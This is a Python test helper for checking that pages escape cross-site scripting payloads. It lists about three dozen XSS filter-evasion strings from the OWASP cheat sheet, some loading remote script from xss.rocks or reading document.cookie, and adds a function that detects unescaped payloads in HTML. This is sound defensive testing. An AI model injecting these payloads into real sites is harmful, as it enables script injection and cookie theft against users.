"""Payloads of the OWASP XSS filter evasion cheat sheet
(https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html), the
classic and the evasive ones, for tests that feed them into every page."""

from __future__ import annotations

import re

PAYLOADS: tuple[str, ...] = (
    "<script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<SCRIPT SRC=https://xss.rocks/xss.js></SCRIPT>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<BODY ONLOAD=alert('XSS')>",
    "<iframe src=\"javascript:alert('XSS');\"></iframe>",
    "<IFRAME SRC=# onmouseover=\"alert(document.cookie)\"></IFRAME>",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    "<STYLE>@import'https://xss.rocks/xss.css';</STYLE>",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"https://xss.rocks/scriptlet.html\"></OBJECT>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "\" onmouseover=\"alert(1)",
    "' onfocus='alert(1)' autofocus='",
    "\" autofocus onfocus=alert(1) x=\"",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "¼script¾alert(¢XSS¢)¼/script¾",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "{{7*7}}${7*7}<%= 7*7 %>",
)
_SPECIAL = re.compile(r"[<>\"']")
_URL_ATTRIBUTE = r"""(?:href|src|action|formaction|data|background)\s*=\s*["']?\s*"""


def unescaped(payload: str, html: str) -> bool:
    """Whether ``html`` carries ``payload`` as markup: verbatim (for a payload with a
    character HTML must escape), or as a ``javascript:`` / ``data:`` URL of an attribute."""
    if _SPECIAL.search(payload) and payload in html:
        return True
    return payload.lower().startswith(("javascript:", "data:")) and bool(
        re.search(_URL_ATTRIBUTE + re.escape(payload), html, re.IGNORECASE))
